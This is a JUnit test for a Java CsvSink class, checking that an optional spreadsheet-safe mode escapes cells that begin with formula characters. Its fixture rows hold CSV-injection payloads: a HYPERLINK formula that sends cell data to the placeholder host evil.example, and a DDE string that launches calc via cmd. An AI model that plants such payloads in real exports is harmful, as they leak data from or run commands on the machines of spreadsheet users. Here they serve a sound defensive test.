package org.framing.report;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvSinkTest {

  private static final List<String> HEADER = List.of("title", "compound", "n", "outlet");
  private static final List<Row> ROWS = List.of(
      RowFactory.create("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", -0.5, -3L, "+cmd|' /C calc'!A0"),
      RowFactory.create("-2+3", 0.25, 7L, "@SUM(1+1)"),
      RowFactory.create("\t=1+1", -1e-7, 0L, "Plain, with a comma"),
      RowFactory.create("", null, 1L, "it's = fine inside"));

  @Test
  void excelSafePrefixesTextCellsThatSpreadsheetsWouldRunAndLeavesNumbersAlone(@TempDir Path tmp) throws IOException {
    Path file = tmp.resolve("safe.csv");
    assertEquals(4, CsvSink.write(file, HEADER, ROWS.iterator(), true));
    assertEquals("title,compound,n,outlet\n"
        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",-0.5,-3,'+cmd|' /C calc'!A0\n"
        + "'-2+3,0.25,7,'@SUM(1+1)\n"
        + "'\t=1+1,-0.0000001,0,\"Plain, with a comma\"\n"
        + "\"\",,1,it's = fine inside\n", Files.readString(file));
  }

  @Test
  void withoutExcelSafeTextIsWrittenAsItIs(@TempDir Path tmp) throws IOException {
    Path file = tmp.resolve("plain.csv");
    CsvSink.write(file, HEADER, ROWS.iterator());
    assertEquals("title,compound,n,outlet\n"
        + "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",-0.5,-3,+cmd|' /C calc'!A0\n"
        + "-2+3,0.25,7,@SUM(1+1)\n"
        + "\"\t=1+1\",-0.0000001,0,\"Plain, with a comma\"\n"
        + "\"\",,1,it's = fine inside\n", Files.readString(file));
  }
}
